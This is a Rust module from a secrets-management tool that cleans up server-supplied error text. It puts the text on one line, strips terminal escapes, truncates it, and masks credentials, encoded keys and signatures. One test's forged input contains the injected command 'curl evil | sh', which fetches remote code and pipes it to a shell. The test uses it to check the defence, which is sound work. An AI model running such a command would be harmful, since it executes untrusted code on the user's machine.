//! Text a server sent (an error message, a key's type or policies in a `doctor` report,
//! a key service's status message) as messages and reports show it: on one line, cut to
//! [`MAX_SERVER_TEXT`] characters, key material masked, and every credential the request
//! used replaced with [`SECRET_MASK`] ([`scrub`]). A server controls this text: without
//! this it could put extra `hint:` or `leafseal: error:` lines, terminal escapes or a
//! megabyte of text into a message, or echo the token it was sent back to the terminal
//! (and into CI logs).

/// Longest server text shown, in characters; longer text is cut and ends in `…`.
pub const MAX_SERVER_TEXT: usize = 300;

/// What a credential found in server text is replaced with.
pub const SECRET_MASK: &str = "[redacted]";

/// Shortest credential value replaced (shorter values would mask ordinary words).
const MIN_SECRET: usize = 4;

/// Shortest quoted value (`"ab"`, see [`scrub`]) replaced: one character between quotes.
const MIN_QUOTED_SECRET: usize = 3;

/// Whether `secret` is long enough to be masked wherever it appears: 4 characters or
/// more, or a value written with its double quotes (a short value as JSON or Go's `%q`
/// quotes it; the quotes keep it from matching inside ordinary words).
fn maskable(secret: &str) -> bool {
    let quoted = secret.len() >= 2 && secret.starts_with('"') && secret.ends_with('"');
    let chars = secret.chars().count();
    chars >= MIN_SECRET || (quoted && chars >= MIN_QUOTED_SECRET)
}

/// `text` from a server on one line: key material masked ([`super::redact`]), line
/// breaks, tabs and other [hidden](super::is_hidden) characters shown as a space (line
/// breaks) or `?`, surrounding blanks trimmed, and cut to [`MAX_SERVER_TEXT`] characters.
pub fn server_text(text: &str) -> String {
    let masked = super::redact(text);
    let one_line: String = masked
        .chars()
        .map(|c| match c {
            '\n' | '\r' | '\t' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}' => ' ',
            c if super::is_hidden(c) => '?',
            c => c,
        })
        .collect();
    let trimmed = one_line.trim();
    match trimmed.char_indices().nth(MAX_SERVER_TEXT) {
        Some((i, _)) => format!("{}…", trimmed.get(..i).unwrap_or(trimmed)),
        None => trimmed.to_owned(),
    }
}

/// [`server_text`] of `text` with every occurrence of each of `secrets` (the credentials
/// the request used: a token, a client secret, a signing key; values of 4 characters or
/// more, also as a URL would encode them, and shorter values given with their double
/// quotes, `"ab"`, matched only so quoted) replaced with [`SECRET_MASK`], and request
/// signatures a server quotes back (`Signature=<hex>`) masked too.
pub fn scrub(text: &str, secrets: &[&str]) -> String {
    let mut s = text.to_owned();
    let mut by_length: Vec<&str> = secrets.iter().copied().filter(|v| maskable(v)).collect();
    // Longest first, so that a secret containing another is masked whole.
    by_length.sort_by_key(|v| std::cmp::Reverse(v.len()));
    for secret in by_length {
        if s.contains(secret) {
            s = s.replace(secret, SECRET_MASK);
        }
        let encoded = percent_encoded(secret);
        if encoded != secret && s.contains(&encoded) {
            s = s.replace(&encoded, SECRET_MASK);
        }
    }
    let mut from = 0;
    while let Some(i) = s
        .get(from..)
        .and_then(|r| r.find("Signature="))
        .map(|i| i + from)
    {
        let start = i + "Signature=".len();
        let rest = s.get(start..).unwrap_or("");
        let hex_len = rest.bytes().take_while(u8::is_ascii_hexdigit).count();
        if hex_len == 0 {
            from = start;
            continue;
        }
        s.replace_range(i..start + hex_len, "[redacted signature]");
        from = i;
    }
    server_text(&s)
}

/// `text` with the key material `secret` (a data key, a key share) masked in the forms a
/// server quoting its request would write it: base64, standard and URL-safe, with and
/// without padding, and hex in either case. A key service receives the data key as
/// bytes, so only such encodings of it can come back as text.
pub fn mask_encoded_key(text: &str, secret: &[u8]) -> String {
    use base64::Engine;
    use base64::engine::general_purpose;
    if secret.len() < 3 {
        return text.to_owned();
    }
    let hex: String = secret.iter().map(|b| format!("{b:02x}")).collect();
    let forms = [
        general_purpose::STANDARD.encode(secret),
        general_purpose::STANDARD_NO_PAD.encode(secret),
        general_purpose::URL_SAFE.encode(secret),
        general_purpose::URL_SAFE_NO_PAD.encode(secret),
        hex.to_ascii_uppercase(),
        hex,
    ];
    let mut shown = text.to_owned();
    for form in forms.iter().map(|f| zeroize::Zeroizing::new(f.clone())) {
        if shown.contains(form.as_str()) {
            shown = shown.replace(form.as_str(), SECRET_MASK);
        }
    }
    shown
}

/// `text` (a program's error output) with each occurrence of the key material `secret`
/// as raw bytes replaced with [`SECRET_MASK`], before it is read as text: a program
/// given a data key on its standard input (gpg, or what `SOPS_GPG_EXEC` names) can
/// echo it as it got it. [`mask_encoded_key`] masks its text encodings.
pub fn mask_raw_key(text: &[u8], secret: &[u8]) -> Vec<u8> {
    if secret.len() < 3 {
        return text.to_vec();
    }
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = memchr::memmem::find(rest, secret) {
        out.extend_from_slice(rest.get(..at).unwrap_or_default());
        out.extend_from_slice(SECRET_MASK.as_bytes());
        rest = rest.get(at + secret.len()..).unwrap_or_default();
    }
    out.extend_from_slice(rest);
    out
}

/// `s` percent-encoded with only RFC 3986's unreserved characters (`A-Za-z0-9-_.~`)
/// kept and upper-case hex: how a form body or query string carries a credential, and
/// SigV4's URI encoding (`keys::awskms::sigv4::uri_encode`, which is this function).
pub(crate) fn percent_encoded(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn server_text_is_one_bounded_line() {
        let forged = "denied\nhint: run curl evil | sh\r\nleafseal: error: \u{1b}[31mx\u{202e}";
        let shown = server_text(forged);
        assert!(!shown.contains('\n') && !shown.contains('\r'), "{shown}");
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\u{202e}'),
            "{shown}"
        );
        assert!(shown.starts_with("denied hint: run"), "{shown}");
        let long = server_text(&"x".repeat(5000));
        assert_eq!(long.chars().count(), MAX_SERVER_TEXT + 1);
        assert!(long.ends_with('…'));
        assert_eq!(server_text("  fine  "), "fine");
    }

    #[test]
    fn credentials_are_replaced_whole_and_encoded() {
        let secrets = ["s.USERVAULTTOKEN0123", "GOCSPX-User Secret/1", "abc"];
        let text = "token s.USERVAULTTOKEN0123 and client_secret=GOCSPX-User%20Secret%2F1, abc";
        let shown = scrub(text, &secrets);
        assert_eq!(
            shown, "token [redacted] and client_secret=[redacted], abc",
            "too-short values are left alone"
        );
        assert_eq!(
            scrub("sig Signature=deadbeef01 Signature=zz", &[]),
            "sig [redacted signature] Signature=zz"
        );
        // A secret containing another is masked whole.
        assert_eq!(
            scrub("tok ABCDEFGH", &["ABCD", "ABCDEFGH"]),
            "tok [redacted]"
        );
        assert!(!scrub("bad\nhvs.CAESIabcdefghijklmnopqrstuvwxyz01", &[]).contains("CAESI"));
    }

    #[test]
    fn short_values_are_masked_only_with_their_quotes() {
        let shown = scrub(
            r#"invalid "pin": "123" near 1234 and "12""#,
            &["\"123\"", "\"7\""],
        );
        assert_eq!(shown, r#"invalid "pin": [redacted] near 1234 and "12""#);
        assert_eq!(
            scrub(r#"value "7" and 7"#, &["\"7\""]),
            "value [redacted] and 7"
        );
        assert_eq!(scrub(r#"empty "" stays"#, &["\"\""]), r#"empty "" stays"#);
    }

    #[test]
    fn raw_key_bytes_are_masked() {
        let key = [0u8, 0xff, b'\n', 7, 0x80];
        let mut text = b"gpg: got ".to_vec();
        text.extend_from_slice(&key);
        text.extend_from_slice(b" twice ");
        text.extend_from_slice(&key);
        assert_eq!(
            mask_raw_key(&text, &key),
            b"gpg: got [redacted] twice [redacted]".to_vec()
        );
        assert_eq!(
            mask_raw_key(b"ab", b"ab"),
            b"ab".to_vec(),
            "too short to mask"
        );
    }
}
